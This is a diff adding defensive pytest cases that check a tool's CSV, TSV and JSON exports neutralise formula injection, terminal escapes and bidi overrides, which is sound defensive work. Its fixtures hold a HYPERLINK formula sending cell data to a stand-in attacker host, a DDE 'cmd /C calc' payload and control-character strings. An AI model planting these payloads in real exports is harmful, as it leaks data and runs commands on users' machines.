@@ -7,7 +7,9 @@ and say so in the changelog: scripts depend on these.
 from __future__ import annotations
 
 import io
+import json
 import os
+import re
 from pathlib import Path
 
 import pytest
@@ -193,3 +195,77 @@ def test_timeline_on_a_terminal_is_inert() -> None:
     assert "[bold red]pwned[/bold red]" in text
     assert "\x1b" not in text and "\u202e" not in text
     assert "#123" in text and "CET" in text  # local time in the desk's zone
+
+
+# -- hostile text in machine formats ---------------------------------------------------------
+
+BIDI = "\u202aa\u202bb\u202cc\u202dd\u202ee\u2066f\u2067g\u2068h\u2069"
+C1 = "\x9b2J\x9d52;c;ZXZpbA==\x9c\x85"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def hostile_rows() -> list[dict]:
+    """Subjects that are formulas, previews that start one, names full of controls and overrides."""
+    base = summaries()[0]
+    from dataclasses import replace
+
+    starts = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTAB=1", "\rCR=1", "Ok -5 is fine")
+    return [records.conversation_summary(replace(
+        base, id=900 + i, subject=FORMULA if i == 0 else f"re: {start}", preview=start,
+        customer_name=f"Mallory {BIDI} {C1}\x00\x07\x1b[2J\x7f\u200b\ufeff\U000e0041",
+        customer_address="+36301234567", tags=("=1+1", "ok"),
+    )) for i, start in enumerate(starts)]
+
+
+HOSTILE_ROWS = hostile_rows()
+#: What must never reach a terminal from any format: controls, C1, bidi controls.
+RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+#: What TSV and JSON also escape: every invisible character (they can, losing nothing).
+RAW_UNSAFE = re.compile(RAW_CONTROL.pattern[:-1] + "\u200b\ufeff\U000e0041]")
+
+
+def test_hostile_tsv() -> None:
+    out = render_tsv(HOSTILE_ROWS, records.CONVERSATION_FIELDS)
+    check("hostile.tsv", out)
+    assert not RAW_UNSAFE.search(out) and "\r" not in out
+    assert "\\u202e" in out and "\\u2066" in out and "\\x9b" in out and "\\U000e0041" in out
+    # Left raw otherwise: TSV is for scripts, which must get the text as it is (docs/cli.md).
+    assert f"\t{FORMULA}\t" in out
+
+
+def test_hostile_csv() -> None:
+    import csv
+
+    out = render_csv(HOSTILE_ROWS, records.CONVERSATION_FIELDS)
+    check("hostile.csv", out)
+    assert not RAW_CONTROL.search(out.replace("\r\n", "\n").replace("\t", " "))
+    assert "\r" not in out.replace("\r\n", "")
+    cells = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert cells[0]["subject"] == "'" + FORMULA
+    assert [c["preview"] for c in cells] == [
+        "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)", "'\tTAB=1", "'\nCR=1", "Ok -5 is fine"]
+    assert all(c["tags"] == "'=1+1,ok" for c in cells)
+    # Our own numbers and a plain phone number stay as they are.
+    assert cells[0]["id"] == "900" and cells[0]["customer_address"] == "+36301234567"
+    assert cells[0]["message_count"] == "3" and cells[0]["unread"] == "true"
+    assert "Mallory aabcde" not in cells[0]["customer_name"]  # overrides dropped, letters kept:
+    assert cells[0]["customer_name"].startswith("Mallory abcdefgh ")
+    assert "\u241b[2J" in cells[0]["customer_name"] and "\u2400\u2407" in cells[0]["customer_name"]
+
+
+@pytest.mark.parametrize(("name", "render", "parse"), [
+    ("hostile.json", render_json, json.loads),
+    ("hostile.nl", render_nl, lambda text: [json.loads(line) for line in text.splitlines()]),
+])
+def test_hostile_json_is_escaped_and_loses_nothing(name, render, parse) -> None:
+    out = render(HOSTILE_ROWS)
+    check(name, out)
+    assert not RAW_UNSAFE.search(out) and "\r" not in out and "\t" not in out
+    assert "\\u009b2J" in out and "\\u202e" in out and "\\udb40\\udc41" in out
+    assert parse(out) == HOSTILE_ROWS  # escaped, not dropped: the data survives
+
+
+def test_escape_json_leaves_ordinary_text_alone() -> None:
+    text = "Kovács Ádám 王芳 سلام 👩\u200d💻 \"q\" \\"
+    assert json.loads(render_json(text)) == text
+    assert "王芳 سلام" in render_json(text) and "\\u200d" in render_json(text)
